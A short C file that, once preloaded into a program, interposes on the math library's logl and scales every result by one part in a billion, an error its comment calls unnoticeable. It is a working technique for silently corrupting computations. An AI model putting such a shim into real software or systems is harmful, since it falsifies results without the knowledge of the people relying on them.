/* Preloaded into a program, makes its logarithms wrong in the ninth digit: a machine whose mathematical library is
 * broken in a way that no reader would notice. */
#include <dlfcn.h>
#include <stddef.h>

typedef long double Function(long double x);

long double logl(long double x)
{
    static Function *right;
    if (right == NULL)
        *(void **)&right = dlsym(RTLD_NEXT, "logl");
    return right(x) * (1 + 1e-9L);
}
